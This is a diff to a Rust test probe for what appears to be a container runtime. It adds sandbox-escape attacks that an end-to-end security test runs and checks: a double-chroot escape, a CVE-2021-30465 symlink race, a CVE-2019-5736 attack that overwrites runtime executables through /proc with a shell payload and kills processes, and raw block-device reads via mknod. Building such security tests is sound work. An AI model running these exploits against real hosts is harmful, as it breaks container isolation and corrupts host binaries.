@@ -370,7 +370,7 @@ fn syscalls() {
 }
 
 fn run(args: &[String]) -> Res<u8> {
-    let cmd = arg(args, 1, "COMMAND (hostname pid ids maps procs ifaces msgq alloc spin cpu-usage forkbomb caps cat write exit env cwd write-direct syscalls)")?;
+    let cmd = arg(args, 1, "COMMAND (hostname pid ids maps procs ifaces msgq alloc spin cpu-usage forkbomb caps cat write exit env cwd write-direct syscalls escape chroot-escape swap exe-attack read-dev mknod-read)")?;
     match cmd {
         "hostname" => hostname()?,
         "pid" => println!("{}", std::process::id()),
@@ -404,6 +404,24 @@ fn run(args: &[String]) -> Res<u8> {
         ),
         "syscalls" => syscalls(),
         "write-direct" => write_direct(arg(args, 2, "PATH")?, num(arg(args, 3, "MIB")?, "MIB")?)?,
+        "escape" => report_top(arg(args, 2, "CANARY")?)?,
+        "chroot-escape" => chroot_escape(arg(args, 2, "CANARY")?)?,
+        "swap" => swap(
+            arg(args, 2, "PATH")?,
+            arg(args, 3, "TARGET")?,
+            num(arg(args, 4, "SECS")?, "SECS")?,
+        )?,
+        "exe-attack" => exe_attack(
+            arg(args, 2, "LOCK")?,
+            arg(args, 3, "STOP")?,
+            num(arg(args, 4, "SECS")?, "SECS")?,
+        )?,
+        "read-dev" => read_dev(arg(args, 2, "PATH")?)?,
+        "mknod-read" => mknod_read(
+            arg(args, 2, "PATH")?,
+            num(arg(args, 3, "MAJOR")?, "MAJOR")?,
+            num(arg(args, 4, "MINOR")?, "MINOR")?,
+        )?,
         c => return Err(format!("unknown command {c:?}")),
     }
     Ok(0)
@@ -418,4 +436,226 @@ fn main() -> ExitCode {
             ExitCode::from(1)
         }
     }
+}
+
+// ---------------------------------------------------------------------------------------
+// Escape attempts, for tests/e2e/security.rs. Each one really attacks and reports what it
+// got; the test decides whether that was allowed.
+
+extern "C" {
+    fn mknod(path: *const c_char, mode: u32, dev: u64) -> c_int;
+    fn renameat2(
+        olddir: c_int,
+        old: *const c_char,
+        newdir: c_int,
+        new: *const c_char,
+        flags: u32,
+    ) -> c_int;
+    fn flock(fd: c_int, op: c_int) -> c_int;
+}
+
+const AT_FDCWD: c_int = -100;
+const RENAME_EXCHANGE: u32 = 2;
+const LOCK_EX: c_int = 2;
+const O_RDWR: c_int = 0o2;
+const O_CREAT: c_int = 0o100;
+const O_PATH: c_int = 0o10000000;
+const S_IFBLK: u32 = 0o060000;
+
+fn cstring(s: &str) -> Res<CString> {
+    CString::new(s).map_err(|_| format!("{s:?} holds a NUL"))
+}
+
+/// `..` 64 times from the cwd, then report where that led: the cwd as /proc/self/cwd names
+/// it (a directory outside the root shows its host path), what is there, and whether
+/// `canary` (a path on the host) can be read from there: "canary found: TEXT" or "canary
+/// absent".
+fn report_top(canary: &str) -> Res {
+    let cwd = |what: &str| match std::fs::read_link("/proc/self/cwd") {
+        Ok(p) => println!("{what} {}", p.display()),
+        Err(e) => println!("{what} ? ({e})"),
+    };
+    cwd("start");
+    for _ in 0..64 {
+        let _ = std::env::set_current_dir("..");
+    }
+    cwd("top");
+    let mut names: Vec<String> = std::fs::read_dir(".")
+        .map_err(|e| format!("read .: {e}"))?
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .collect();
+    names.sort();
+    println!("ls {}", names.join(" "));
+    match std::fs::read_to_string(canary.trim_start_matches('/')) {
+        Ok(t) => println!("canary found: {}", t.trim()),
+        Err(_) => println!("canary absent"),
+    }
+    Ok(())
+}
+
+/// The double-chroot escape: chroot into a subdirectory while the cwd stays outside it,
+/// climb with `..` (nothing stops it: the cwd is not under the new root), chroot there.
+fn chroot_escape(canary: &str) -> Res {
+    match std::fs::create_dir("/.escape") {
+        Err(e) if e.kind() != std::io::ErrorKind::AlreadyExists => {
+            return Err(format!("mkdir /.escape: {e}"))
+        }
+        _ => {}
+    }
+    std::os::unix::fs::chroot("/.escape").map_err(|e| format!("chroot /.escape: {e}"))?;
+    println!("chrooted");
+    for _ in 0..64 {
+        let _ = std::env::set_current_dir("..");
+    }
+    std::os::unix::fs::chroot(".").map_err(|e| format!("chroot .: {e}"))?;
+    std::env::set_current_dir("/").map_err(|e| format!("chdir /: {e}"))?;
+    report_top(canary)
+}
+
+/// CVE-2021-30465's racer: `path` a directory and `path.swap` a symlink to `target`,
+/// exchanged atomically (renameat2 RENAME_EXCHANGE) as fast as possible until `path.stop`
+/// exists or `secs` pass. Prints the number of swaps.
+fn swap(path: &str, target: &str, secs: f64) -> Res {
+    let link = format!("{path}.swap");
+    let _ = std::fs::create_dir(path);
+    let _ = std::fs::remove_file(&link);
+    std::os::unix::fs::symlink(target, &link).map_err(|e| format!("symlink {link}: {e}"))?;
+    let (a, b) = (cstring(path)?, cstring(&link)?);
+    let stop = std::path::PathBuf::from(format!("{path}.stop"));
+    let start = Instant::now();
+    let mut n: u64 = 0;
+    while start.elapsed().as_secs_f64() < secs {
+        for _ in 0..100 {
+            if unsafe { renameat2(AT_FDCWD, a.as_ptr(), AT_FDCWD, b.as_ptr(), RENAME_EXCHANGE) }
+                != 0
+            {
+                return Err(os_err(&format!("renameat2 {path} {link}")));
+            }
+            n += 1;
+        }
+        if stop.exists() {
+            break;
+        }
+    }
+    println!("swapped {n}");
+    Ok(())
+}
+
+/// CVE-2019-5736's attacker. Holds an exclusive flock on `lock` (an mrun started in here
+/// with the default store then blocks in it, and its binary stays in reach). Until `stop`
+/// exists or `secs` pass, for every other process whose /proc/PID/exe is not one of the
+/// image's own binaries: open it for writing, and keep an O_PATH fd to it, through which
+/// it tries again after killing that process (runc was overwritten once it had exited).
+/// Whatever opens for writing gets a shell script written over its first bytes. Once `stop`
+/// exists it tries the fds it holds until they expire (3 s), then prints the executables
+/// seen, how many it held, killed and wrote, and the errors by errno.
+fn exe_attack(lock: &str, stop: &str, secs: f64) -> Res {
+    const PAYLOAD: &[u8] = b"#!/bin/sh\necho overwritten from a container\n";
+    let l = cstring(lock)?;
+    let lfd = unsafe { open(l.as_ptr(), O_RDWR | O_CREAT | O_CLOEXEC, 0o600) };
+    if lfd < 0 || unsafe { flock(lfd, LOCK_EX) } != 0 {
+        return Err(os_err(&format!("lock {lock}")));
+    }
+    let me = std::process::id();
+    let mut seen = std::collections::BTreeSet::new();
+    let mut errors = std::collections::BTreeMap::<i32, u64>::new();
+    // (pid, O_PATH fd, when it was opened, killed yet)
+    let mut held: Vec<(u32, c_int, Instant, bool)> = Vec::new();
+    let (mut opened, mut killed, mut wrote) = (0u64, 0u64, 0u64);
+    let try_write = |path: &CString, errors: &mut std::collections::BTreeMap<i32, u64>| {
+        let fd = unsafe { open(path.as_ptr(), O_WRONLY | O_CLOEXEC, 0) };
+        if fd < 0 {
+            *errors.entry(errno()).or_default() += 1;
+            return 0;
+        }
+        let n = unsafe { write(fd, PAYLOAD.as_ptr().cast(), PAYLOAD.len()) };
+        unsafe { close(fd) };
+        u64::from(n > 0)
+    };
+    let start = Instant::now();
+    // Once `stop` exists, only the fds already held are still tried, until they expire.
+    while start.elapsed().as_secs_f64() < secs
+        && !(std::path::Path::new(stop).exists() && held.is_empty())
+    {
+        let stopping = std::path::Path::new(stop).exists();
+        let pids: Vec<u32> = std::fs::read_dir("/proc")
+            .map_err(|e| format!("read /proc: {e}"))?
+            .flatten()
+            .filter_map(|e| e.file_name().to_str()?.parse().ok())
+            .filter(|&p| p != me)
+            .collect();
+        for pid in pids {
+            if stopping || held.iter().any(|h| h.0 == pid) {
+                continue;
+            }
+            let exe = format!("/proc/{pid}/exe");
+            let Ok(target) = std::fs::read_link(&exe) else {
+                continue;
+            };
+            let target = target.to_string_lossy().into_owned();
+            if target == "/bin/busybox" || target == "/probe" {
+                continue;
+            }
+            seen.insert(target);
+            let c = cstring(&exe)?;
+            wrote += try_write(&c, &mut errors);
+            let fd = unsafe { open(c.as_ptr(), O_PATH | O_CLOEXEC, 0) };
+            if fd < 0 {
+                *errors.entry(errno()).or_default() += 1;
+            } else {
+                opened += 1;
+                held.push((pid, fd, Instant::now(), false));
+            }
+        }
+        for h in held.iter_mut() {
+            wrote += try_write(&cstring(&format!("/proc/self/fd/{}", h.1))?, &mut errors);
+            if !h.3 && h.2.elapsed() > Duration::from_millis(300) {
+                unsafe { kill(h.0 as c_int, SIGKILL) };
+                killed += 1;
+                h.3 = true;
+            }
+        }
+        held.retain(|h| {
+            let keep = h.2.elapsed() < Duration::from_secs(3);
+            if !keep {
+                unsafe { close(h.1) };
+            }
+            keep
+        });
+        std::thread::sleep(Duration::from_millis(1));
+    }
+    let seen: Vec<String> = seen.into_iter().collect();
+    println!("seen {}", seen.join(" "));
+    println!("held {opened}");
+    println!("killed {killed}");
+    println!("wrote {wrote}");
+    let errors: Vec<String> = errors.iter().map(|(e, n)| format!("{e}:{n}")).collect();
+    println!("errors {}", errors.join(" "));
+    Ok(())
+}
+
+/// Read the first 512 bytes of a device (or any file): "read N bytes".
+fn read_dev(path: &str) -> Res {
+    use std::io::Read;
+    let mut f = std::fs::File::open(path).map_err(|e| format!("open {path}: {e}"))?;
+    let mut buf = [0u8; 512];
+    let n = f.read(&mut buf).map_err(|e| format!("read {path}: {e}"))?;
+    println!("read {n} bytes");
+    Ok(())
+}
+
+/// mknod a block device MAJOR:MINOR at `path` ("mknod ok"), then `read_dev` it.
+fn mknod_read(path: &str, major: u64, minor: u64) -> Res {
+    // gnu_dev_makedev
+    let dev = ((major & 0xffff_f000) << 32)
+        | ((major & 0xfff) << 8)
+        | ((minor & 0xffff_ff00) << 12)
+        | (minor & 0xff);
+    let c = cstring(path)?;
+    if unsafe { mknod(c.as_ptr(), S_IFBLK | 0o600, dev) } != 0 {
+        return Err(os_err(&format!("mknod {path}")));
+    }
+    println!("mknod ok");
+    read_dev(path)
 }
